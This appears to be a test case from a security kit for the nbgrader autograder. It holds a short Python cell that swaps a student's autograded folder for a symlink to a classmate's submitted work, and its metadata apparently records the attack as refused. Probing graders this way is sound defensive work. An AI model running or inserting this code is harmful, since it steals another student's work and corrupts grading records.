"""From nbgrader's kernel, swaps its own autograded/<me> folder (the one above the kernel's
working folder) for a link to the classmate's (victim's) submitted folder: a grader that
reads its autograded notebook back through the link records the victim's work as this
student's. @COURSE@ is the course's path on the host (guessable; the kit writes it in).
Acts only where nbgrader's own kernel runs the notebook (`--nbgrader-kernel`, or an
assignment of several notebooks).

earned: 0
layer: course
flags: nbgrader_output_refused
"""
# %% extra
import os
mine = os.path.dirname(os.getcwd())
try:
    os.rename(mine, mine + ".moved")
    os.symlink(os.path.join("@COURSE@", "submitted", "victim"), mine)
except OSError:
    pass
